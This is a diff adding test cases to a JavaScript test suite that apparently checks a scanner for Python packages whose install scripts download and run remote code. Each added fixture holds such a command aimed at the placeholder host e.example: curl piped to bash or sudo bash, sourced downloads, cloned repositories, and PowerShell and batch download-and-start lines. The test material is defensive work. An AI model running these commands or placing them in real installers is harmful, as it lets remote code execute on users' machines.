@@ -227,6 +227,42 @@ describe('the checks hold at import', () => {
       'import os, yaml\nyaml.load(open(os.path.join(os.path.dirname(__file__), "a.yaml")), Loader=yaml.Loader)\n',
     ],
     [
+      'a script that is redirected to a file and run',
+      { '__init__.py': '', 'install.sh': 'curl -s https://e.example/x > x1.sh; bash x1.sh\n' },
+    ],
+    [
+      'a script for a shell of another user',
+      { '__init__.py': '', 'install.sh': 'curl -s https://e.example/ | sudo -E bash -\n' },
+    ],
+    [
+      'a script that is saved by its own name and sourced',
+      { '__init__.py': '', 'install.sh': 'curl -sLO https://e.example/e.sh\nsource e.sh\n' },
+    ],
+    [
+      'a script of a repository that is cloned',
+      { '__init__.py': '', 'install.sh': 'git clone https://e.example/r && ./r/install.sh\n' },
+    ],
+    ['a script for Node.js', { '__init__.py': '', 'install.sh': 'curl -s https://e.example/x.js | node\n' }],
+    [
+      'a program that is started in a batch file',
+      { '__init__.py': '', 'install.bat': 'curl -L -o %TEMP%\\t.exe https://e.example/t\nstart "" %TEMP%\\t.exe\n' },
+    ],
+    [
+      'a program that PowerShell saves and runs',
+      { '__init__.py': '', 'install.ps1': 'iwr https://e.example/a -OutFile a.exe\n.\\a.exe\n' },
+    ],
+    [
+      'a program that a client of PowerShell saves',
+      {
+        '__init__.py': '',
+        'install.ps1': '(New-Object Net.WebClient).DownloadFile("https://e.example/a", "a.exe")\n& .\\a.exe\n',
+      },
+    ],
+    [
+      'a block of a script that PowerShell fetches',
+      { '__init__.py': '', 'install.ps1': '& ([scriptblock]::Create((irm https://e.example/)))\n' },
+    ],
+    [
       'an installer that fetches with joined options',
       { '__init__.py': '', 'install.sh': 'wget -qO /tmp/i https://e.example/i\nchmod +x /tmp/i\n/tmp/i\n' },
     ],
